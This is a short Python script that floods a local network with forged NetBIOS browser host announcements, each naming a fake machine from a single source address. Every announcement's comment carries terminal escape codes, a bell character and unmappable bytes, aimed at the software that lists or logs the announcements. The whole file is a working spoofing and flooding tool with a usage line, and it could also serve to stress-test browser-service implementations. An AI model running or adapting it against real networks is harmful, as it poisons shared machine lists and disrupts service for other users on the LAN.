#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
# Sends COUNT host announcements, each naming another machine (FAKE0, FAKE1,
# ...), from this host to the LAN: a flood of fake machines from one address.
# Usage: browse_flood.py BROADCAST SOURCE_IP WORKGROUP COUNT
import socket
import struct
import sys


def encode_name(name, suffix):
    raw = name.upper().encode()[:15].ljust(15, b" ") + bytes([suffix])
    out = bytearray([0x20])
    for b in raw:
        out += bytes([0x41 + (b >> 4), 0x41 + (b & 0x0F)])
    return bytes(out) + b"\0"


def announcement(name, comment):
    return (bytes([0x01, 0]) + struct.pack("<I", 60000) + name.encode().ljust(16, b"\0") +
            bytes([6, 1]) + struct.pack("<I", 1) + bytes([15, 1]) + struct.pack("<H", 0xAA55) +
            comment + b"\0")


def datagram(ident, source_ip, workgroup, data):
    slot = b"\\MAILSLOT\\BROWSE\0"
    smb = bytearray(b"\xffSMB\x25" + bytes(27))
    smb += bytes([17]) + struct.pack("<HHHHBBHIH", 0, len(data), 0, 0, 0, 0, 0, 0, 0)
    smb += struct.pack("<HHHHBB", 0, 0, len(data), 69 + len(slot), 3, 0)
    smb += struct.pack("<HHHH", 1, 0, 2, len(slot) + len(data)) + slot + data
    names = encode_name("FLOODER", 0) + encode_name(workgroup, 0x1D)
    header = struct.pack(">BBH4sHHH", 0x11, 0x02, ident, socket.inet_aton(source_ip), 138,
                         len(names) + len(smb), 0)
    return header + names + bytes(smb)


def main():
    broadcast, source_ip, workgroup, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    for i in range(count):
        # Comments with control characters and bytes no code page maps to text.
        data = announcement("FAKE%d" % i, b"fake \x1b[31m\x07\xff\x81")
        s.sendto(datagram(i & 0xFFFF, source_ip, workgroup, data), (broadcast, 138))


main()
